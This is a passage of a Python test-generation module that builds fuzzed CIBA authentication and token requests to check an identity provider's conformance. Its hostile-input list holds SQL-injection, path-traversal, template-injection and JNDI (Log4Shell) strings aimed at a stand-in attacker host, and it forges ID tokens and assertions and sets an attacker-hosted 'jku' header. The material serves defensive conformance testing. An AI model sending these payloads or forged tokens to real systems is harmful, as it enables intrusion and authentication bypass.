"""Hypothesis strategies for CIBA requests, composed from the protocol core's dataclasses.

A strategy never builds HTTP by itself: it draws `BackchannelParams`, `ClientAuthentication`
and `RequestObjectSpec` values (the same dataclasses the conformance tests use) and the
core's `build_backchannel_request` / `build_token_request` turn a case into a request when
it is sent, so time-bound parts (assertions, `jti`, `exp`) are fresh on every replay.

* Values: `hostile_text`, `numeric_strings`, `scopes`, `binding_messages`,
  `requested_expiries`, `random_auth_req_ids` (valid, boundary and hostile values).
* Whole cases: `backchannel_cases` and `token_cases`. A case starts from a valid request and
  applies up to a few mutations; `classify` then derives, from the request as it will be
  sent, which MUST-level requirements it breaks. `BackchannelCase.breaks` is the first of
  them (None: the provider may accept the request or refuse it).

Shrinking goes toward the plainest client, the first variant of each value, and no
mutation, so a minimal failing case carries the offending part and little else.
"""

from __future__ import annotations

import base64
import json
import time
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from functools import lru_cache
from typing import Any, Literal
from urllib.parse import parse_qsl, urlsplit

from hypothesis import strategies as st
from hypothesis.strategies import DrawFn, SearchStrategy, composite

from ciba_harness.checks._backchannel import login_hint_token as mint_login_hint_token
from ciba_harness.core._clientauth import ClientAuthentication, sign_jwt
from ciba_harness.core._config import ClientConfig, ProviderConfig
from ciba_harness.core._discovery import CIBA_GRANT, ProviderMetadata
from ciba_harness.core._http import HttpRequest, redact
from ciba_harness.core._idtoken import decode_unverified
from ciba_harness.core._requests import (
    AUTH_PARAMETERS,
    BackchannelParams,
    RequestObjectSpec,
    build_backchannel_request,
    build_token_request,
)

__all__ = [
    "BACKCHANNEL_REQUIREMENTS",
    "HINTS",
    "TOKEN_REQUIREMENTS",
    "BackchannelCase",
    "TokenCase",
    "backchannel_cases",
    "backchannel_clients",
    "backchannel_params",
    "binding_messages",
    "classify",
    "client_authentications",
    "hostile_text",
    "numeric_strings",
    "random_auth_req_ids",
    "redacted",
    "request_object_mutations",
    "request_object_specs",
    "requested_expiries",
    "scopes",
    "token_cases",
]

HINTS = ("login_hint", "login_hint_token", "id_token_hint")
BodyFormat = Literal["form", "json"]
_AUTH_FIELDS: Mapping[str, tuple[str, ...]] = {
    # Form fields each client authentication method puts in the body (see _clientauth).
    "client_secret_basic": (),
    "client_secret_post": ("client_id", "client_secret"),
    "client_secret_jwt": ("client_id", "client_assertion_type", "client_assertion"),
    "private_key_jwt": ("client_id", "client_assertion_type", "client_assertion"),
    "tls_client_auth": ("client_id",),
    "self_signed_tls_client_auth": ("client_id",),
    "none": ("client_id",),
    "omit": (),
}
_ATTACKER = "https://attacker.invalid"
_FORGED_KEY = b"not-the-provider-key-0123456789abcdef"  # >= 32 bytes: no PyJWT warning
_URLSAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

#: every requirement a generated backchannel case can break (the fuzz test carries them all)
BACKCHANNEL_REQUIREMENTS = (
    "CIBA-AUTH-02",
    "CIBA-AUTH-03",
    "CIBA-AUTH-07",
    "CIBA-AUTH-08",
    "CIBA-AUTH-09",
    "CIBA-AUTH-11",
    "CIBA-AUTH-12",
    "CIBA-AUTH-13",
    "CIBA-AUTH-14",
    "CIBA-AUTH-23",
    "CIBA-AUTH-25",
    "CIBA-AUTH-26",
    "CIBA-AERR-08",
    "CIBA-CAUTH-01",
    "CIBA-CAUTH-02",
    "CIBA-CAUTH-03",
    "CIBA-CAUTH-05",
    "CIBA-CAUTH-06",
    "CIBA-CAUTH-07",
    "CIBA-CAUTH-08",
    "CIBA-CAUTH-11",
    "CIBA-CAUTH-12",
    "CIBA-CAUTH-13",
    "CIBA-SREQ-02",
    "CIBA-SREQ-03",
    "CIBA-SREQ-04",
    "CIBA-SREQ-05",
    "CIBA-SREQ-06",
    "CIBA-SREQ-07",
    "CIBA-SREQ-08",
    "CIBA-SREQ-09",
    "CIBA-SREQ-10",
    "CIBA-SREQ-16",
)
#: every requirement a generated token case can break
TOKEN_REQUIREMENTS = ("CIBA-TOKEN-02", "CIBA-TOKEN-03", "CIBA-TOKEN-19")


# --- values ---------------------------------------------------------------------------------

_NASTY = (
    " ", "\x00", "\r\n", "\t", "null", "undefined", "[]", "{}", "true", "-1", "1e309", "NaN",
    "%00", "%", "+", "&scope=openid", "a=b&c", "'\"<>", "' OR '1'='1", "../../etc/passwd",
    "{{7*7}}", "${jndi:ldap://attacker.invalid/x}", "\u202eevil", "\ufeffbom", "\u2028", "é",
    "日本語", "😀", "Z\u0351\u0352\u0353",
)
_HUGE_SIZES = (256, 1024, 1025, 4096, 65_536, 70_000)


@lru_cache
def hostile_text(*, min_size: int = 0, max_size: int = 40) -> SearchStrategy[str]:
    """Empty, unicode, control characters, fixed nasty strings and huge values.

    Surrogates are left out: they cannot be UTF-8 encoded, so no client can send them.
    """
    unicode_text = st.text(
        st.characters(codec="utf-8"), min_size=max(min_size, 1), max_size=max_size
    )
    control = st.text(
        st.characters(max_codepoint=0x1F) | st.sampled_from("\x7f\x85\u2028\u202e\ufeff"),
        min_size=max(min_size, 1),
        max_size=8,
    )
    choices: list[SearchStrategy[str]] = [st.just("")] if min_size == 0 else []
    choices += [
        unicode_text,
        control,
        st.sampled_from(_NASTY),
        st.sampled_from(_HUGE_SIZES).map(lambda n: "A" * n),
    ]
    return st.one_of(choices)


@lru_cache
def numeric_strings() -> SearchStrategy[str]:
    """Numbers written as strings, well and badly: signs, exponents, other digits."""
    return st.one_of(
        st.integers(min_value=-5, max_value=4000).map(str),
        st.sampled_from(
            ("0", "-0", "+30", "030", "30.0", "3e1", "0x1E", " 30", "30 ", "٣٠", "1" * 25, "")
        ),
    )


@lru_cache
def scopes(*, valid: bool = True) -> SearchStrategy[str]:
    """Scope values that contain openid (valid) or boundary ones without it."""
    if valid:
        return st.sampled_from(
            (
                "openid",
                "openid profile",
                "profile openid",
                "openid openid",
                "openid email phone address offline_access",
                "openid x_unknown_scope",
            )
        )
    return st.one_of(
        st.sampled_from(("profile", "OPENID", "openid,profile", " openid", "openid\x00", "\topenid")),
        hostile_text(min_size=1),
    )


@lru_cache
def binding_messages(*, valid: bool = True) -> SearchStrategy[str]:
    """Short plain messages (valid), or long / non-ASCII / control ones (the OP's choice)."""
    if valid:
        return st.one_of(
            st.sampled_from(("1234", "W4SCT")),
            st.text(st.sampled_from(_URLSAFE), min_size=1, max_size=10),
        )
    return st.one_of(
        st.sampled_from((20, 21, 50, 300)).map(lambda n: "B" * n),
        hostile_text(min_size=1),
    )


@lru_cache
def requested_expiries() -> SearchStrategy[int | str]:
    """Boundary and hostile `requested_expiry` values, as numbers and as strings."""
    return st.one_of(
        st.sampled_from((1, 3600, 3601, 0, -1, 2**31, 2**63)),
        numeric_strings(),
        hostile_text(min_size=1),
    )


@lru_cache
def random_auth_req_ids() -> SearchStrategy[str]:
    """Well-formed (A-Za-z0-9-_, 128 to 256 bits) auth_req_id values no provider issued."""
    return st.binary(min_size=16, max_size=32).map(
        lambda raw: base64.urlsafe_b64encode(raw).rstrip(b"=").decode("ascii")
    )


def _unknown_values(known: Sequence[str]) -> SearchStrategy[str]:
    return hostile_text(min_size=1).filter(lambda value: value not in known)


# --- cases ----------------------------------------------------------------------------------


def _mask(name: str, value: Any) -> str:
    if name in {"login_hint_token", "id_token_hint", "user_code", "client_notification_token"}:
        return f"***({len(str(value))} chars)" if value else repr(value)
    text = repr(value)
    return text if len(text) <= 80 else f"{text[:60]}…({len(str(value))} chars)"


def _describe_params(params: BackchannelParams) -> str:
    parts = [f"{name}={_mask(name, value)}" for name, value in params.as_fields()]
    return ", ".join(parts) or "(none)"


@dataclass(frozen=True)
class BackchannelCase:
    """One authentication request to send, and what it breaks.

    `breaks` is the first MUST-level requirement the request violates (None: the provider may
    accept it or refuse it with a registered error); `all_breaks` lists every one.
    """

    client: ClientConfig
    params: BackchannelParams
    auth: ClientAuthentication | None = None
    signed: RequestObjectSpec | None = None
    body_format: BodyFormat = "form"
    method: str = "POST"
    omit: tuple[str, ...] = ()
    mutations: tuple[str, ...] = ()
    all_breaks: tuple[str, ...] = ()
    auth_label: str | None = field(default=None, repr=False)
    token_facts: Mapping[str, str] = field(default_factory=dict, repr=False)
    #: the request as built when the case was drawn (what was classified); send it at once
    request: HttpRequest | None = field(default=None, repr=False, compare=False)

    @property
    def breaks(self) -> str | None:
        return self.all_breaks[0] if self.all_breaks else None

    def build(self, metadata: ProviderMetadata, *, now: float | None = None) -> HttpRequest:
        """The request, built (again) by the core (`build_backchannel_request`)."""
        return build_backchannel_request(
            self.client,
            metadata,
            self.params,
            auth=self.auth,
            signed=self.signed,
            body_format=self.body_format,
            method=self.method,
            omit=self.omit,
            now=now,
        )

    def __repr__(self) -> str:
        # Shown as Hypothesis' falsifying example: names and shapes, never secret values.
        parts = [f"client={self.client.name!r}", f"params=[{_describe_params(self.params)}]"]
        if self.auth is not None:
            parts.append(f"auth={_describe_auth(self.auth)}")
        if self.signed is not None:
            parts.append(f"signed={_describe_spec(self.signed)}")
        if self.body_format != "form" or self.method != "POST":
            parts.append(f"body={self.method} {self.body_format}")
        if self.omit:
            parts.append(f"omit={self.omit!r}")
        parts.append(f"mutations={self.mutations!r}")
        parts.append(f"breaks={self.breaks!r}")
        return f"BackchannelCase({', '.join(parts)})"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))


@dataclass(frozen=True)
class TokenCase:
    """One token request with an auth_req_id no provider issued (or none at all).

    Every token case must be refused; `breaks` names the requirement that tokens would break.
    """

    client: ClientConfig
    auth_req_id: str | None
    grant_type: str = CIBA_GRANT
    extra: tuple[tuple[str, str], ...] = ()
    auth: ClientAuthentication | None = None
    body_format: BodyFormat = "form"
    mutations: tuple[str, ...] = ()

    @property
    def breaks(self) -> str:
        if self.grant_type != CIBA_GRANT:
            return "CIBA-TOKEN-19"
        if not self.auth_req_id:
            return "CIBA-TOKEN-02"
        return "CIBA-TOKEN-03"

    @property
    def is_guess(self) -> bool:
        """A CIBA-grant request carrying an auth_req_id: never `authorization_pending`."""
        return self.grant_type == CIBA_GRANT and bool(self.auth_req_id)

    def build(self, metadata: ProviderMetadata, *, now: float | None = None) -> HttpRequest:
        return build_token_request(
            self.client,
            metadata,
            self.auth_req_id,
            auth=self.auth,
            grant_type=self.grant_type,
            extra=self.extra,
            body_format=self.body_format,
            now=now,
        )

    def __repr__(self) -> str:
        parts = [
            f"client={self.client.name!r}",
            f"auth_req_id={_mask('auth_req_id', self.auth_req_id)}",
            f"grant_type={self.grant_type!r}",
        ]
        if self.extra:
            parts.append(f"extra={[(k, _mask(k, v)) for k, v in self.extra]!r}")
        if self.auth is not None:
            parts.append(f"auth={_describe_auth(self.auth)}")
        if self.body_format != "form":
            parts.append(f"body={self.body_format}")
        parts.append(f"mutations={self.mutations!r}")
        return f"TokenCase({', '.join(parts)})"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))


def _describe_auth(auth: ClientAuthentication) -> str:
    parts = []
    if auth.method:
        parts.append(f"method={auth.method}")
    if auth.secret is not None:
        parts.append("secret=<wrong>")
    if auth.client_id is not None:
        parts.append(f"client_id={_mask('client_id', auth.client_id)}")
    if auth.audience is not None:
        parts.append(f"aud={_mask('aud', auth.audience)}")
    if auth.assertion_claims:
        parts.append(f"claims={dict(auth.assertion_claims)!r}")
    if auth.assertion_key is not None:
        parts.append("key=<another client's>")
    if auth.assertion is not None:
        parts.append(f"assertion={_mask('assertion', auth.assertion)}")
    if auth.also_basic:
        parts.append("also_basic")
    return "(" + ", ".join(parts) + ")"


def _describe_spec(spec: RequestObjectSpec) -> str:
    parts = []
    if spec.alg:
        parts.append(f"alg={spec.alg}")
    if spec.key is not None:
        parts.append("key=<another client's>")
    if spec.claims:
        parts.append(f"claims={ {k: _mask(k, v) for k, v in spec.claims.items()} }")
    if spec.headers:
        parts.append(f"headers={ {k: _mask(k, v) for k, v in spec.headers.items()} }")
    if spec.lifetime != 300:
        parts.append(f"lifetime={spec.lifetime}")
    if spec.nbf_offset:
        parts.append(f"nbf_offset={spec.nbf_offset}")
    if spec.also_outside:
        parts.append(f"also_outside={spec.also_outside!r}")
    if spec.tamper_signature:
        parts.append("tamper_signature")
    return "(" + ", ".join(parts) + ")"


# --- valid requests -------------------------------------------------------------------------


def backchannel_clients(
    config: ProviderConfig, metadata: ProviderMetadata | None = None
) -> tuple[ClientConfig, ...]:
    """Confidential CIBA clients whose delivery mode the provider advertises (plainest first)."""
    return tuple(
        c
        for c in config.clients
        if c.ciba_allowed
        and c.auth_method != "none"
        and (
            metadata is None
            or not metadata.delivery_modes
            or metadata.supports_mode(c.delivery_mode)
        )
    )


def backchannel_params(
    config: ProviderConfig, client: ClientConfig
) -> SearchStrategy[BackchannelParams]:
    """A valid authentication request for `client` (what `CibaClient.default_params` sends,
    with the optional parameters drawn; they shrink away)."""
    users = config.users
    needs_token = client.delivery_mode in {"ping", "push"}
    needs_code = client.user_code_required and users.user_code is not None
    fapi = config.profile == "fapi-ciba"
    return st.builds(
        BackchannelParams,
        scope=scopes(),
        login_hint=st.sampled_from(_known_users(config)),
        binding_message=binding_messages() if fapi else st.none() | binding_messages(),
        requested_expiry=st.none() | st.integers(min_value=30, max_value=600),
        acr_values=st.none() | st.sampled_from(("urn:mace:incommon:iap:silver", "0 1")),
        client_notification_token=(
            st.text(st.sampled_from(_URLSAFE), min_size=22, max_size=64)
            if needs_token
            else st.none()
        ),
        user_code=st.just(users.user_code) if needs_code else st.none(),
    )


def _known_users(config: ProviderConfig) -> list[str]:
    users = config.users
    return [u for u in (users.login_hint, users.second_login_hint) if u]


def _other_client(config: ProviderConfig, client: ClientConfig) -> ClientConfig | None:
    return next((c for c in config.clients if c.client_id != client.client_id), None)


def _other_id(config: ProviderConfig, client: ClientConfig) -> str:
    other = _other_client(config, client)
    return other.client_id if other is not None else f"{client.client_id}-other"


def _other_signer(config: ProviderConfig, client: ClientConfig) -> ClientConfig | None:
    """Another client holding a different private key (to sign with the wrong key)."""
    return next(
        (
            c
            for c in config.clients
            if c.client_id != client.client_id
            and c.private_key is not None
            and c.signing_alg in _ASYMMETRIC
            and c.private_key_path != client.private_key_path
        ),
        None,
    )


def _login_hint_tokens(config: ProviderConfig) -> SearchStrategy[tuple[str, str]]:
    """(token, fact): fact is valid, expired, unknown (no such user) or garbage."""
    users = config.users
    options: list[SearchStrategy[tuple[str, str]]] = []
    key = users.login_hint_token_hs256_key
    if key:

        def mint(fact: str) -> tuple[str, str]:
            now = int(time.time())
            sub = users.login_hint if fact != "unknown" else users.unknown_login_hint
            exp = now + 300 if fact != "expired" else now - 600
            return sign_jwt({"sub": sub, "exp": exp}, key.encode(), "HS256"), fact

        options.append(st.sampled_from(("valid", "expired", "unknown")).map(mint))
    if getattr(users, "login_hint_token_format", "") == "client_signed":
        # Minted per client when drawn (_m_login_hint_token): only the fact is drawn here.
        options.append(st.sampled_from(("valid", "expired", "unknown")).map(lambda f: ("", f)))
    for value, fact in (
        (users.login_hint_token, "valid"),
        (users.expired_login_hint_token, "expired"),
        (users.unknown_login_hint_token, "unknown"),
    ):
        if value:
            options.append(st.just((value, fact)))
    forged = sign_jwt({"sub": users.login_hint}, _FORGED_KEY, "HS256")
    options.append((st.just(forged) | hostile_text(min_size=1)).map(lambda t: (t, "garbage")))
    return st.one_of(options)


def _foreign_id_tokens(config: ProviderConfig) -> SearchStrategy[str]:
    """ID tokens this provider never issued: garbage, unsigned, or signed by someone else."""
    sub = config.users.login_hint

    def forge(aud: str) -> str:
        now = int(time.time())
        claims = {"iss": _ATTACKER, "sub": sub, "aud": aud, "exp": now + 300, "iat": now}
        return sign_jwt(claims, _FORGED_KEY, "HS256")

    audiences = [c.client_id for c in config.clients] or ["client"]
    return st.one_of(
        st.sampled_from(audiences).map(forge),
        st.just(sign_jwt({"sub": sub}, None, "none")),
        hostile_text(min_size=1),
    )


# --- client authentication ------------------------------------------------------------------

AuthDeviation = tuple[ClientAuthentication, str | None, str]


def client_authentications(
    config: ProviderConfig, client: ClientConfig, issuer: str | None = None
) -> SearchStrategy[AuthDeviation]:
    """Deviations from the client's registered authentication: (auth, requirement, name).

    The requirement is the MUST the deviation breaks (None: still a valid authentication).
    """
    method = client.auth_method
    known_ids = [c.client_id for c in config.clients]
    wrong_secrets = _unknown_values([c.client_secret for c in config.clients if c.client_secret])

    def unknown_id(cid: str) -> AuthDeviation:
        return ClientAuthentication(client_id=cid), "CIBA-CAUTH-03", "unknown client_id"

    options: list[SearchStrategy[AuthDeviation]] = [
        st.just((ClientAuthentication(method="omit"), "CIBA-CAUTH-01", "no client authentication")),
        st.just((ClientAuthentication(method="none"), "CIBA-CAUTH-01", "client_id only")),
        _unknown_values(known_ids).map(unknown_id),
    ]
    if method in {"client_secret_basic", "client_secret_post"}:
        requirement = "CIBA-CAUTH-02" if method == "client_secret_basic" else "CIBA-CAUTH-03"
        other = "client_secret_post" if method == "client_secret_basic" else "client_secret_basic"

        def wrong_secret(secret: str) -> AuthDeviation:
            return ClientAuthentication(secret=secret), requirement, "wrong secret"

        options += [
            wrong_secrets.map(wrong_secret),
            st.just((ClientAuthentication(method=other), "CIBA-CAUTH-12", f"{other} instead")),
            st.just(
                (
                    ClientAuthentication(method="client_secret_post", also_basic=True),
                    "CIBA-CAUTH-13",
                    "Basic header and client_secret",
                )
            ),
        ]
    if method in {"client_secret_jwt", "private_key_jwt"}:
        options += _assertion_deviations(config, client, issuer, wrong_secrets)
    return st.one_of(options)


def _assertion_deviations(
    config: ProviderConfig,
    client: ClientConfig,
    issuer: str | None,
    wrong_secrets: SearchStrategy[str],
) -> list[SearchStrategy[AuthDeviation]]:
    def audience(aud: str) -> AuthDeviation:
        return ClientAuthentication(audience=aud), "CIBA-CAUTH-05", "assertion aud elsewhere"

    def issuer_claim(claim: str) -> AuthDeviation:
        claims = {claim: _other_id(config, client)}
        return (
            ClientAuthentication(assertion_claims=claims),
            "CIBA-CAUTH-06",
            f"assertion {claim} is another client",
        )

    def expiry(kind: str) -> AuthDeviation:
        exp: Any = {"past": int(time.time()) - 600, "none": None, "text": "soon"}[kind]
        return (
            ClientAuthentication(assertion_claims={"exp": exp}),
            "CIBA-CAUTH-07",
            f"assertion exp {kind}",
        )

    def junk(assertion: str) -> AuthDeviation:
        return ClientAuthentication(assertion=assertion), "CIBA-CAUTH-08", "junk assertion"

    options: list[SearchStrategy[AuthDeviation]] = [
        (st.sampled_from((_ATTACKER, f"{_ATTACKER}/token")) | hostile_text(min_size=1)).map(
            audience
        ),
        st.sampled_from(("iss", "sub")).map(issuer_claim),
        st.sampled_from(("past", "none", "text")).map(expiry),
        hostile_text(min_size=1).map(junk),
        st.just(
            (
                ClientAuthentication(method="client_secret_basic", secret="x-wrong"),
                "CIBA-CAUTH-12",
                "client_secret_basic instead",
            )
        ),
        st.just((ClientAuthentication(also_basic=True), "CIBA-CAUTH-13", "assertion and Basic")),
        st.just(
            (ClientAuthentication(assertion_claims={"jti": None}), None, "assertion without jti")
        ),
    ]
    if issuer:
        options.append(
            st.just((ClientAuthentication(audience=f"{issuer}/token"), None, "aud token endpoint"))
        )
    if client.auth_method == "client_secret_jwt":

        def wrong_key(secret: str) -> AuthDeviation:
            return ClientAuthentication(secret=secret), "CIBA-CAUTH-08", "wrong MAC key"

        options.append(wrong_secrets.map(wrong_key))
    else:
        signer = _other_signer(config, client)
        if signer is not None:
            other_key = ClientAuthentication(
                assertion_key=signer.private_key, assertion_alg=signer.signing_alg
            )
            options.append(
                st.just((other_key, "CIBA-CAUTH-08", "assertion signed with another client's key"))
            )
    return options


# --- signed request objects -----------------------------------------------------------------

_WRONG_TYPES: tuple[Any, ...] = (123, 1.5, True, ["openid"], {"a": 1}, "")
_ASYMMETRIC = ("RS256", "PS256", "ES256")


SpecMutation = Callable[[RequestObjectSpec], RequestObjectSpec]


def request_object_specs(
    config: ProviderConfig, client: ClientConfig, issuer: str | None = None
) -> SearchStrategy[RequestObjectSpec]:
    """Signed request objects with one thing changed: algorithm, key, signature, one claim
    (missing, wrong, wrong type, unknown), one header, lifetime, `nbf`, or parameters also
    sent outside. The simplest is a valid signed request."""
    return request_object_mutations(config, client, issuer).map(
        lambda mutate: mutate(RequestObjectSpec())
    )


def request_object_mutations(
    config: ProviderConfig, client: ClientConfig, issuer: str | None = None
) -> SearchStrategy[SpecMutation]:
    """Functions changing one aspect of a `RequestObjectSpec` (they compose)."""
    claims: dict[str, SearchStrategy[Any]] = {
        "aud": st.sampled_from((None, _ATTACKER, [_ATTACKER], *([[issuer]] if issuer else []))),
        "iss": st.sampled_from((None, _other_id(config, client), "")),
        "exp": st.sampled_from((None, "tomorrow")),
        "iat": st.sampled_from((None, "now")),
        "nbf": st.sampled_from((None, "now")),
        "jti": st.sampled_from((None, 7, "")),
        "x_harness_claim": hostile_text(),
        "requested_expiry": st.sampled_from(("30", 30, 30.5, -1)),
        "login_hint": st.sampled_from(_WRONG_TYPES),
        "scope": st.sampled_from(_WRONG_TYPES),
        "binding_message": st.sampled_from(_WRONG_TYPES),
    }
    headers: dict[str, SearchStrategy[Any]] = {
        "kid": hostile_text(min_size=1),
        "typ": st.sampled_from(("oauth-authz-req+jwt", "JWE", "")),
        "crit": st.just(["x_harness_unknown"]),
        "jku": st.just(f"{_ATTACKER}/jwks"),
    }
    keys: list[tuple[str | None, Any]] = [("none", None), ("HS256", None)]
    if client.private_key is not None and client.signing_alg in _ASYMMETRIC:
        keys += [(a, None) for a in _ASYMMETRIC if _alg_fits(a, client.signing_alg)]
    signer = _other_signer(config, client)
    if signer is not None:
        keys.append((signer.signing_alg, signer.private_key))

    def with_key(alg_key: tuple[str | None, Any]) -> SpecMutation:
        return lambda s: replace(s, alg=alg_key[0], key=alg_key[1])

    def with_claim(item: tuple[str, Any]) -> SpecMutation:
        return lambda s: replace(s, claims={**s.claims, item[0]: item[1]})

    def with_header(item: tuple[str, Any]) -> SpecMutation:
        return lambda s: replace(s, headers={**s.headers, item[0]: item[1]})

    def with_times(item: tuple[int, int]) -> SpecMutation:
        return lambda s: replace(s, lifetime=item[0], nbf_offset=item[1])

    def outside(names: list[str]) -> SpecMutation:
        return lambda s: replace(s, also_outside=tuple(names))

    def tampered(s: RequestObjectSpec) -> RequestObjectSpec:
        return replace(s, tamper_signature=True)

    def unchanged(s: RequestObjectSpec) -> RequestObjectSpec:
        return s

    return st.one_of(
        st.just(unchanged),
        st.sampled_from(keys).map(with_key),
        st.one_of([st.tuples(st.just(k), v) for k, v in claims.items()]).map(with_claim),
        st.one_of([st.tuples(st.just(k), v) for k, v in headers.items()]).map(with_header),
        st.sampled_from(((60, 0), (300, -60), (-600, 0), (300, 900))).map(with_times),
        st.lists(st.sampled_from(AUTH_PARAMETERS), min_size=1, max_size=2, unique=True).map(
            outside
        ),
        st.just(tampered),
    )


def _alg_fits(alg: str, client_alg: str | None) -> bool:
    """Whether the client's key signs `alg` (the RSA algs share a key, ES256 does not)."""
    if client_alg not in _ASYMMETRIC:
        return False
    return (alg == "ES256") == (client_alg == "ES256")


# --- backchannel cases ----------------------------------------------------------------------


@dataclass(frozen=True)
class _Context:
    """Everything a case needs, with the strategies built once (building them per draw
    would cost more than sending the request)."""

    config: ProviderConfig
    metadata: ProviderMetadata | None
    clients: tuple[ClientConfig, ...]
    params: Mapping[str, SearchStrategy[BackchannelParams]]
    auth: Mapping[str, SearchStrategy[AuthDeviation]]
    specs: Mapping[str, SearchStrategy[SpecMutation]]
    login_hint_tokens: SearchStrategy[tuple[str, str]]
    id_token_hints: SearchStrategy[str]
    login_hints: SearchStrategy[str]
    user_codes: SearchStrategy[str | None]
    odd_clients: tuple[ClientConfig, ...]

    @classmethod
    def build(
        cls,
        config: ProviderConfig,
        metadata: ProviderMetadata | None,
        clients: tuple[ClientConfig, ...],
    ) -> _Context:
        issuer = metadata.issuer if metadata is not None else None
        odd = tuple(c for c in config.clients if c.auth_method == "none" or not c.ciba_allowed)
        everyone = {c.client_id: c for c in (*clients, *odd)}
        unknown = config.users.unknown_login_hint
        return cls(
            config=config,
            metadata=metadata,
            clients=clients,
            params={cid: backchannel_params(config, c) for cid, c in everyone.items()},
            auth={cid: client_authentications(config, c, issuer) for cid, c in everyone.items()},
            specs={
                cid: request_object_mutations(config, c, issuer) for cid, c in everyone.items()
            },
            login_hint_tokens=_login_hint_tokens(config),
            id_token_hints=_foreign_id_tokens(config),
            login_hints=st.one_of(
                st.just(unknown),
                hostile_text().map(lambda suffix: unknown + suffix),
                hostile_text(min_size=1),
            ),
            user_codes=st.sampled_from((None, "")) | _unknown_values([config.users.user_code or ""]),
            odd_clients=odd,
        )


@dataclass
class _Draft:
    client: ClientConfig
    params: BackchannelParams
    auth: ClientAuthentication | None = None
    auth_label: str | None = None
    signed: RequestObjectSpec | None = None
    body_format: BodyFormat = "form"
    method: str = "POST"
    omit: tuple[str, ...] = ()
    mutations: list[str] = field(default_factory=list)
    token_facts: dict[str, str] = field(default_factory=dict)

    @property
    def auth_method(self) -> str:
        return (self.auth.method if self.auth and self.auth.method else None) or (
            self.client.auth_method
        )

    def set(self, **changes: Any) -> None:
        self.params = replace(self.params, **changes)

    def add_extra(self, name: str, value: str) -> None:
        self.params = replace(self.params, extra=(*self.params.extra, (name, value)))


Mutation = Callable[[DrawFn, _Draft, _Context], None]
_EMPTY = st.sampled_from((None, ""))
_MAX_URL = 8000  # longer URLs: refused by HTTP clients (httpx: 64 KiB) or servers (414, reset)
_BODIES: tuple[tuple[str, BodyFormat], ...] = (("POST", "json"), ("GET", "form"), ("PUT", "form"))
_HINT_KINDS = st.sampled_from(("id_token_hint", "login_hint_token", "login_hint"))
_NOTIFICATION_TOKENS = st.sampled_from((None, "", "A" * 1024, "A" * 1025, "a b", "tok=="))
_UNSIGNED = st.sampled_from((False, True))
_UNKNOWN_NAMES = st.sampled_from(("x_harness_probe", "request_uri", "nonce", "redirect_uri"))


def _m_drop_scope(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(scope=draw(_EMPTY))


def _m_scope(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(scope=draw(scopes() | scopes(valid=False)))


def _m_drop_hint(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(login_hint=draw(_EMPTY), login_hint_token=None, id_token_hint=None)


def _m_login_hint(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(login_hint=draw(ctx.login_hints))


def _m_login_hint_token(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    token, fact = draw(ctx.login_hint_tokens)
    if getattr(ctx.config.users, "login_hint_token_format", "") == "client_signed" and fact != (
        "garbage"
    ):
        # The token is signed by the requesting client: minted for the drawn one.
        minted = mint_login_hint_token(ctx.config.users, fact, client=d.client)
        token = minted or token
    d.token_facts[token] = fact
    d.set(login_hint=None, id_token_hint=None, login_hint_token=token)


def _m_id_token_hint(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(login_hint=None, login_hint_token=None, id_token_hint=draw(ctx.id_token_hints))


def _m_extra_hint(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    kind = draw(_HINT_KINDS)
    if kind == "id_token_hint":
        d.set(id_token_hint=draw(ctx.id_token_hints))
    elif kind == "login_hint_token":
        token, fact = draw(ctx.login_hint_tokens)
        d.token_facts[token] = fact
        d.set(login_hint_token=token)
    else:
        d.set(login_hint=draw(st.sampled_from(_known_users(ctx.config))))


def _m_binding_message(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(binding_message=draw(binding_messages(valid=False)))


def _m_requested_expiry(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(requested_expiry=draw(requested_expiries()))


def _m_acr_values(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(acr_values=draw(hostile_text()))


def _m_user_code(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(user_code=draw(ctx.user_codes))


def _m_notification_token(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.set(client_notification_token=draw(_NOTIFICATION_TOKENS | hostile_text(min_size=1)))


def _m_unknown_param(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    name = draw(_UNKNOWN_NAMES | hostile_text(min_size=1).map(lambda n: "x_harness_" + n))
    d.add_extra(name, draw(hostile_text()))


def _m_repeat_param(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    fields = d.params.as_fields()
    names = [n for n, _ in fields] + list(_AUTH_FIELDS.get(d.auth_method, ()))
    if names:
        name = draw(st.sampled_from(names))
        same = next((v for n, v in fields if n == name), "x")
        d.add_extra(name, draw(st.just(same) | hostile_text()))


def _m_omit_field(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    names = _AUTH_FIELDS.get(d.auth_method, ())
    if names:
        d.omit = (*d.omit, draw(st.sampled_from(names)))


def _m_body(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.method, d.body_format = draw(st.sampled_from(_BODIES))


def _m_client_auth(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    d.auth, d.auth_label, name = draw(ctx.auth[d.client.client_id])
    d.mutations[-1] = f"client_auth: {name}"


def _m_other_client(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    if ctx.odd_clients:
        d.client = draw(st.sampled_from(ctx.odd_clients))
        d.auth, d.auth_label = None, None


def _m_request_object(draw: DrawFn, d: _Draft, ctx: _Context) -> None:
    if d.client.sign_requests and draw(_UNSIGNED):
        d.signed = None  # a client registered for signed requests sends an unsigned one
        d.mutations[-1] = "unsigned"
        return
    d.signed = draw(ctx.specs[d.client.client_id])(d.signed or RequestObjectSpec())


#: Mutations in groups: a mutation picks a group first, so that each part of a request
